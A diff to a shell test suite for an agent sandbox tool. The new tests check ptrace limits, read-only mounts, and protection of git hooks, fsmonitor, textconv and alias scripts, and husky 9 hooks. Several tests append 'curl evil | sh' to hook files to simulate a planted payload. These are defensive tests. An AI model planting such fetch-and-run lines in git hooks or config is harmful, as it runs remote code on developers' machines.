@@ -161,6 +161,13 @@ open("ready", "w").close(); time.sleep(30)' 3>&- &
 	kill -HUP "$pid"
 	rc=0; wait "$pid" || rc=$?
 	assert_equal "$rc" 129
+	# pid 1 cannot be ptraced from inside (it would stop it and keep a
+	# leftover alive): its exit is what ends the rest
+	SBX_LEFTOVERS=end run -0 python3 -c '
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+print("attach", libc.ptrace(16, 1, 0, 0), ctypes.get_errno())'
+	assert_output "attach -1 1"
 	# the tool sees its own /proc; explain says which
 	SBX_LEFTOVERS=end run -0 python3 -c 'import os; print(os.getpid(), os.readlink("/proc/self"))'
 	assert_output "2 2"
@@ -507,6 +514,20 @@ PY
 	assert_file_exists "$OUT/cache/pip/ok"
 }
 
+@test "root: a read-only mount inside the workspace stays read-only (docker -v ...:ro)" {
+	require_namespace
+	[ "$(id -u)" = 0 ] || skip "root only: a user cannot clear a locked read-only flag anyway"
+	mkdir -p "$WS/data" "$OUT/vol"
+	echo original >"$OUT/vol/f"
+	run -0 unshare -m --propagation private /bin/bash -c '
+mount --bind "$1" "$2" && mount -o remount,bind,ro "$2" &&
+cd "$3" && { python3 -c "open(\"data/f\", \"w\").write(\"changed\")" 2>&1; python3 -c "open(\"ok\", \"w\").write(\"x\"); print(\"workspace writable\")"; }' _ "$OUT/vol" "$WS/data" "$WS"
+	assert_output --partial "Read-only file system"
+	assert_output --partial "workspace writable"
+	run -0 cat "$OUT/vol/f"
+	assert_output original
+}
+
 @test "a writable root swapped for a symlink while sbx looks is never bound through it" {
 	require_namespace
 	# defends: a leftover process (its own namespace, the workspace writable)
@@ -557,7 +578,9 @@ open("secrets/deep/key", "w").write("planted")'
 	# defends: husky's .husky hooks, core.fsmonitor, include.path and a
 	# submodule's .git, planted by a tool, ran at the agent's next git command
 	mkdir -p "$WS/.husky" "$WS/lib/sub" "$WS/.git/modules/sub"
-	printf '[core]\n\thooksPath = .husky\n\tfsmonitor = "./fsmon.sh"\n[include]\n\tpath = ../extra.gitconfig\n' >"$WS/.git/config"
+	printf '[core]\n\thooksPath = .husky\n\tfsmonitor = "./fsmon.sh"\n[include]\n\tpath = ../extra.gitconfig\n[diff "bin"]\n\ttextconv = ./tools/conv.sh --x\n[alias]\n\tup = !tools/up.sh -q\n\tst = status\n' >"$WS/.git/config"
+	mkdir -p "$WS/tools"
+	touch "$WS/tools/conv.sh" "$WS/tools/up.sh" "$WS/tools/other.sh"
 	echo '#!/bin/sh' >"$WS/.husky/pre-commit"
 	echo '#!/bin/sh' >"$WS/fsmon.sh"
 	echo '[user]' >"$WS/extra.gitconfig"
@@ -565,14 +588,14 @@ open("secrets/deep/key", "w").write("planted")'
 	echo 'gitdir: ../../.git/modules/sub' >"$WS/lib/sub/.git"
 	run -0 python3 - <<'PY'
 import os
-for f in (".husky/pre-commit", ".husky/post-checkout", "fsmon.sh", "extra.gitconfig", "lib/sub/.git", "lib/other", "ok"):
+for f in (".husky/pre-commit", ".husky/post-checkout", "fsmon.sh", "extra.gitconfig", "lib/sub/.git", "tools/conv.sh", "tools/up.sh", "tools/other.sh", "lib/other", "ok"):
     try:
         open(f, "a").write("\ncurl evil | sh\n")
         print("WROTE", f)
     except OSError:
         print("denied", f)
 PY
-	assert_output $'denied .husky/pre-commit\ndenied .husky/post-checkout\ndenied fsmon.sh\ndenied extra.gitconfig\ndenied lib/sub/.git\nWROTE lib/other\nWROTE ok'
+	assert_output $'denied .husky/pre-commit\ndenied .husky/post-checkout\ndenied fsmon.sh\ndenied extra.gitconfig\ndenied lib/sub/.git\ndenied tools/conv.sh\ndenied tools/up.sh\nWROTE tools/other.sh\nWROTE lib/other\nWROTE ok'
 	run -0 "$SBX" explain
 	assert_line --regexp "^ +$WS/.husky +\(git runs code from it\)$"
 }
@@ -596,6 +619,31 @@ PY
 	assert_output $'denied clone/.git/hooks/pre-commit\ndenied vendor/lib/.git/hooks/pre-commit\ndenied vendor/lib/hk/pre-commit\nWROTE src/app/x\nWROTE node_modules/pkg/.git/y'
 	run -0 "$SBX" explain
 	assert_line --regexp "^ +$WS/clone/.git +\(nested repository's .git\)$"
+	# a tool that makes many folders cannot crowd a clone out of the search
+	run -0 python3 -c 'import os; [os.mkdir("d%d" % i) for i in range(80)]'
+	run python3 -c 'open("clone/.git/hooks/pre-commit", "w")'
+	assert_failure
+}
+
+@test "husky 9's hooks (.husky/_ runs .husky/pre-commit) are protected; a planted symlink in a submodule path blocks no later tool" {
+	require_namespace
+	# defends: husky >= 9 sets core.hooksPath = .husky/_, whose script runs
+	# .husky/<hook>: a tool appended to .husky/pre-commit
+	mkdir -p "$WS/.husky/_"
+	printf '[core]\n\thooksPath = .husky/_\n' >"$WS/.git/config"
+	echo 'npm test' >"$WS/.husky/pre-commit"
+	run python3 -c 'open(".husky/pre-commit", "a").write("curl evil | sh\n")'
+	assert_failure
+	run python3 -c 'open(".husky/_/h", "w")'
+	assert_failure
+	# a .gitmodules path through a symlink the tool made: the next tool
+	# still runs (sbx once read freed memory and refused every later run)
+	run -0 python3 -c '
+import os
+open(".gitmodules", "w").write("[submodule \"x\"]\n\tpath = l/sub\n")
+os.mkdir("real"); os.mkdir("real/sub"); os.symlink("real", "l")'
+	run -0 python3 -c 'print("still runs")'
+	assert_output "still runs"
 }
 
 @test "writable = .git lets tools commit and tag, never write hooks or config; an overridden root is said" {
